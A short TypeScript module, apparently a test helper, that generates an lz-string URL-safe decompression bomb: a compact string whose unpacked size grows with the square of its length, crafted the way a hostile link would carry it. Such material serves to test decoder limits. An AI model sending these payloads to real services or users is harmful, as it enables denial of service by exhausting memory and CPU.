// A decompression bomb in lz-string's URL-safe form, as a hostile link would carry it: one literal, then codes that
// each name the entry being made, so every code adds an entry one character longer than the last and the output
// grows with the square of the input (120,000 characters unpack to about a billion).

const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$';

/** A packed field of `chars` characters whose unpacked size is about (chars * 6 / 17)^2 / 2 characters of 'a'. */
export function lzBomb(chars: number): string {
  const bits: number[] = [];
  const write = (value: number, n: number) => {
    for (let k = 0; k < n; k++) bits.push((value >> k) & 1);
  };
  write(0, 2);
  write(97, 8);
  let dictSize = 4;
  let numBits = 3;
  let enlargeIn = 4;
  while (bits.length + numBits <= chars * 6) {
    write(dictSize, numBits);
    dictSize++;
    if (--enlargeIn === 0) enlargeIn = 2 ** numBits++;
  }
  let out = '';
  for (let i = 0; i + 6 <= bits.length; i += 6) {
    let v = 0;
    for (let b = 0; b < 6; b++) v = v * 2 + bits[i + b];
    out += ALPHABET[v];
  }
  return out;
}
